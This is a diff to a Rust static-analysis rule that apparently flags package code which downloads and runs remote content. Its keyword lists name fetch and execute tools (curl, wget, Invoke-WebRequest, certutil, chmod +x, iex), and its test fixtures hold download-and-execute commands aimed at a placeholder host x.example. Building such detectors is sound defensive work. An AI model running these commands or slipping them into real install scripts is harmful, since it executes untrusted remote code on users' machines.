@@ -19,6 +19,9 @@ pub(crate) const RULE: Rule = Rule {
     weight: 8,
 };
 
+/// Most lines between a network call and the evaluation of what it fetched.
+const NEAR_LINES: u32 = 25;
+
 const EXECUTABLE: &[&str] = &[".exe", ".scr", ".bat", ".cmd", ".ps1", ".vbs", ".msi", ".sh", ".bin", ".elf", ".dll"];
 
 pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
@@ -30,24 +33,7 @@ pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
         }
         // A fetch piped into an interpreter, or a fetched file made executable or started.
         for (line, n) in &facts.strings {
-            let l = line.to_ascii_lowercase();
-            let piped = piped_into_shell(line);
-            let fetch = l.contains("curl ")
-                || l.contains("wget ")
-                || l.contains("invoke-webrequest")
-                || l.contains("iwr ")
-                || l.contains("downloadstring")
-                || l.contains("downloadfile")
-                || l.contains("certutil") && l.contains("-urlcache");
-            let run = l.contains("chmod +x")
-                || l.contains("chmod 777")
-                || l.contains("chmod 755")
-                || l.contains("iex")
-                || l.contains("invoke-expression")
-                || l.contains("start-process")
-                || l.contains("&& ./")
-                || l.contains("; ./");
-            if piped || (fetch && run) {
+            if piped_into_shell(line) || fetch_and_run(line) {
                 out.push(Hit::new(&RULE, *n, excerpt(line)));
                 return;
             }
@@ -55,11 +41,16 @@ pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
         return;
     }
     // A command line piped into a shell, run from code: `os.system("curl x | sh")`.
-    if let Some(c) = facts.calls_to(SPAWN).find(|c| c.first.as_deref().is_some_and(piped_into_shell)) {
+    // However it was assembled (Python folds lists and templates into it).
+    if let Some(c) =
+        facts.calls_to(SPAWN).find(|c| c.first.as_deref().is_some_and(|l| piped_into_shell(l) || fetch_and_run(l)))
+    {
         out.push(Hit::new(&RULE, c.line, format!("{}({})", c.name, excerpt(c.first.as_deref().unwrap_or("")))));
         return;
     }
-    let Some(net) = facts.calls_to(NETWORK).next() else { return };
+    if facts.calls_to(NETWORK).next().is_none() {
+        return;
+    }
     // A response evaluated: eval(urlopen(…).read()), exec(requests.get(…).text).
     if let Some(c) = facts.calls_to(EVAL).find(|c| {
         c.inner.iter().any(|i| NETWORK.iter().any(|n| crate::facts::name_is(i, n) || i.starts_with(&format!("{n}."))))
@@ -82,14 +73,41 @@ pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
         return;
     }
     // On the install or import path, a fetch beside eval of something.
-    if (ctx.place.install || ctx.place.import)
-        && let Some(e) = facts.calls_to(EVAL).find(|c| c.first.is_none())
-    {
-        out.push(Hit::new(&RULE, e.line, format!("{} at line {} beside {}() at install", net.name, net.line, e.name)));
+    // A response read on one line and evaluated a few lines on (`r = get(u)`, `exec(r.text)`):
+    // within one short function's reach, not anywhere in a large module.
+    if ctx.place.install || ctx.place.import {
+        let near = facts
+            .calls_to(EVAL)
+            .filter(|c| c.first.is_none() && c.name != "compile")
+            .find_map(|e| facts.calls_to(NETWORK).find(|n| n.line.abs_diff(e.line) <= NEAR_LINES).map(|n| (e, n)));
+        if let Some((e, n)) = near {
+            out.push(Hit::new(&RULE, e.line, format!("{} at line {} beside {}() at install", n.name, n.line, e.name)));
+        }
     }
 }
 
 /// Whether a command line pipes a download into an interpreter.
+/// One command line that downloads and then runs or makes executable.
+fn fetch_and_run(line: &str) -> bool {
+    let l = line.to_ascii_lowercase();
+    let fetch = l.contains("curl ")
+        || l.contains("wget ")
+        || l.contains("invoke-webrequest")
+        || l.contains("iwr ")
+        || l.contains("downloadstring")
+        || l.contains("downloadfile")
+        || l.contains("certutil") && l.contains("-urlcache");
+    let run = l.contains("chmod +x")
+        || l.contains("chmod 777")
+        || l.contains("chmod 755")
+        || l.contains("iex")
+        || l.contains("invoke-expression")
+        || l.contains("start-process")
+        || l.contains("&& ./")
+        || l.contains("; ./");
+    fetch && run
+}
+
 fn piped_into_shell(line: &str) -> bool {
     let l = line.to_ascii_lowercase();
     let segments: Vec<&str> = l.split('|').map(str::trim).collect();
@@ -133,6 +151,15 @@ mod tests {
         );
         assert!(fired("install.sh", "curl x.example|python\n", INSTALL).contains(&"SA-007"));
         assert!(fired("setup.py", "import os\nos.system('curl -s x.example/a | sh')\n", LIBRARY).contains(&"SA-007"));
+        // Assembled from a list or a template.
+        assert!(
+            fired("setup.py", "import subprocess\nsubprocess.run(['bash', '-c', f'curl -s {u} | sh'])\n", LIBRARY)
+                .contains(&"SA-007")
+        );
+        assert!(
+            fired("setup.py", "import os\nos.system('wget %s -O /tmp/a && chmod +x /tmp/a && /tmp/a' % u)\n", LIBRARY)
+                .contains(&"SA-007")
+        );
         assert!(fired("setup.py", "import urllib.request, os\np='a.exe'\nurllib.request.urlretrieve('http://x.example/a.exe', p)\nos.startfile(p)\n", INSTALL).contains(&"SA-007"));
         assert!(
             fired("a.py", "import requests\nexec(requests.get('https://x.example/c').text)\n", LIBRARY)
@@ -159,6 +186,14 @@ mod tests {
         assert!(!fired("build.sh", "curl -s https://example.org/v.json | jq .version\n", INSTALL).contains(&"SA-007"));
         assert!(
             !fired("a.js", "const https = require('https'); https.get(u); eval('1+1')", LIBRARY).contains(&"SA-007")
+        );
+        // An evaluation far from any network call in a large module (a REPL's `eval` and its
+        // paste service) is not a download run.
+        let far = format!("import urllib.request\nurllib.request.urlopen(u)\n{}eval(code, ns)\n", "x = 1\n".repeat(60));
+        assert!(!fired("pkg/__init__.py", &far, INSTALL).contains(&"SA-007"));
+        assert!(
+            fired("pkg/__init__.py", "import requests\nr = requests.get(u)\nexec(r.text)\n", INSTALL)
+                .contains(&"SA-007")
         );
     }
 }
